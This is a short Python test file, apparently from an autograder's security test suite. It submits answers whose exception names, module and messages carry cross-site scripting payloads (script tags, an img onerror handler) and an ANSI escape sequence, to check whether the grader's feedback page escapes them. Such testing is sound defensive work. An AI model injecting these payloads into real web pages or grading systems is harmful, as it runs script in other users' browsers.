"""Exceptions whose name, message and traceback contain tags, also in a graded function.

Success: active content in a page.
"""


def attack(submission):
    submission.first("""
        evil = "<script>alert(1)</script><img src=x onerror=alert(1)>"
        Evil = type(evil, (Exception,), {"__module__": evil})
    """)
    submission.answer("square", "def square(x):\n    raise Evil(evil)")
    submission.answer("total", "total = evil\nraise Evil(f'\\x1b[31m{evil}')")
    submission.answer("words", "exec(compile('raise Evil', evil, 'exec'))")
    submission.answer("root", "def root(x):\n    return evil")
